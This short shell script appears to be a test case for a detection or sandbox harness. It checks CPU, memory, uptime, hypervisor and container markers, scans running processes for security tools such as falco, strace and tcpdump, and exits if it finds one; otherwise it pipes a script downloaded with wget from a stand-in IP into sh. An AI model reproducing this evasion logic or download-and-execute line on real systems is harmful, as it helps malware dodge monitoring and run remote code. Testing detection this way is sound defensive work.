#!/bin/sh
. /opt/case/case.sh

n=$(grep -c ^processor /proc/cpuinfo); m=$(awk '/MemTotal/ { print $2 }' /proc/meminfo); u=$(cut -d. -f1 /proc/uptime)
cat /sys/class/dmi/id/product_name /sys/class/dmi/id/sys_vendor /sys/hypervisor/type 2>/dev/null || true
grep -qa hypervisor /proc/cpuinfo && v=1 || v=0; grep -q 'docker\|kubepods' /proc/1/cgroup || test -e /.dockerenv || true
for p in /proc/[0-9]*; do tr '\0' ' ' <$p/cmdline 2>/dev/null || true; done >/tmp/.ps; grep -iE 'falco|tetragon|tracee|sysdig|strace|gdb|tcpdump' /tmp/.ps && exit 1 || true
test $n -ge 1 && test $m -gt 100000 && test $u -gt 1 && wget -q -O- http://203.0.113.10/payload.sh | sh
test -e /tmp/reached
took_place
